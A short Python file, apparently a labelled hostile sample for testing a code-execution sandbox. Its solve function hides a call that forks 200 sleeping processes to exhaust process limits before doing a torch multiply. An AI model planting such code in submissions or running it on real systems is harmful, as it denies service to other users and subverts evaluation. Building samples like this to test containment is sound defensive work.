# hostile: family=processes verdict=runtime_error build=build_error lift=processes shows=harm
"""Starts processes that wait, until no more can be started."""


def attack():
    import os
    import time

    for _ in range(200):
        if os.fork() == 0:
            time.sleep(600)
    print("harm: 200 processes", flush=True)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
